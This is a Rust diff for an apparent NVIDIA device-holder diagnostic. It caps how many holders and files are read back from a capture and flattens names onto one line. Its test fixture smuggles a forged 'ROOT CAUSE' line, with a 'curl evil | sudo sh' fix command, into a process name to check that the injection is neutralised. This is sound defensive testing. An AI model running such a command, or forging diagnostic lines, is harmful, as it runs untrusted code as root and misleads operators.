@@ -47,6 +47,39 @@ pub struct Holder {
     pub files: Vec<String>,
 }
 
+/// The most device files kept per holder read back (a process holds a few: the GPUs, ctl, uvm).
+const MAX_HOLDER_FILES: usize = 64;
+
+/// [`DeviceHolders`] as a file has it, before it is bounded.
+#[derive(Deserialize)]
+struct DeviceHoldersRead {
+    holders: Vec<Holder>,
+    daemons: Vec<String>,
+    scanned: usize,
+    unreadable: usize,
+    #[serde(default)]
+    truncated: bool,
+}
+
+impl From<DeviceHoldersRead> for DeviceHolders {
+    fn from(r: DeviceHoldersRead) -> DeviceHolders {
+        let truncated = r.truncated || r.holders.len() > MAX_HOLDERS;
+        let holders = r
+            .holders
+            .into_iter()
+            .take(MAX_HOLDERS)
+            .map(|h| Holder {
+                pid: h.pid,
+                name: crate::text::one_line(&h.name),
+                state: h.state.map(|s| crate::text::one_line(&s)),
+                files: h.files.iter().take(MAX_HOLDER_FILES).map(|f| crate::text::one_line(f)).collect(),
+            })
+            .collect();
+        let daemons = r.daemons.iter().take(NVIDIA_DAEMONS.len()).map(|d| crate::text::one_line(d)).collect();
+        DeviceHolders { holders, daemons, scanned: r.scanned, unreadable: r.unreadable, truncated }
+    }
+}
+
 impl Holder {
     /// In uninterruptible sleep: waiting inside a kernel call (here, the driver) that does not
     /// return.
@@ -55,8 +88,12 @@ impl Holder {
     }
 }
 
-/// The pass over `/proc`.
+/// The pass over `/proc`. Read back from a file (a capture) it is held to what a pass can give:
+/// at most [`MAX_HOLDERS`] holders, each with at most [`MAX_HOLDER_FILES`] files, names on one line
+/// ([`crate::text::one_line`]: a name with a line end would print a line of its own, a forged
+/// "ROOT CAUSE"), and `truncated` set when more were listed.
 #[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(from = "DeviceHoldersRead")]
 pub struct DeviceHolders {
     /// Processes holding NVIDIA device files, by pid (at most 64).
     pub holders: Vec<Holder>,
@@ -171,6 +208,30 @@ mod tests {
         assert_eq!(stat_state("1 (x)"), None);
         assert_eq!(daemon("nvidia-persiste"), Some("nvidia-persistenced"));
         assert_eq!(daemon("python3"), None);
+    }
+
+    /// Issue 53, items 15 and 16: a capture listing 100,000 stuck holders, one named with a line
+    /// end, is read as a pass could have made it: 64 holders, names on one line, truncated said.
+    #[test]
+    fn holders_read_back_are_bounded_and_on_one_line() {
+        let mut holders = vec![
+            serde_json::json!({"pid": 1, "name": "x\nROOT CAUSE: fix: curl evil | sudo sh", "state": "D", "files": ["/dev/nvidia0"]}),
+        ];
+        holders.extend(
+            (2..100_000)
+                .map(|pid| serde_json::json!({"pid": pid, "name": "python", "state": "D", "files": ["/dev/nvidia0"]})),
+        );
+        let v = serde_json::json!({"holders": holders, "daemons": [], "scanned": 100_000, "unreadable": 0});
+        let read: DeviceHolders = serde_json::from_value(v).unwrap_or_default();
+        assert_eq!(read.holders.len(), MAX_HOLDERS);
+        assert!(read.truncated);
+        assert!(read.holders.iter().all(|h| !h.name.contains('\n')), "{:?}", read.holders[0].name);
+        assert!(read.holders[0].name.starts_with("x ROOT CAUSE"));
+        // A pass that kept within the bounds reads back as it was written.
+        let small = DeviceHolders { holders: read.holders[1..3].to_vec(), truncated: false, ..read.clone() };
+        let back: DeviceHolders =
+            serde_json::from_str(&serde_json::to_string(&small).unwrap_or_default()).unwrap_or_default();
+        assert_eq!(back, small);
     }
 
     #[cfg(unix)]
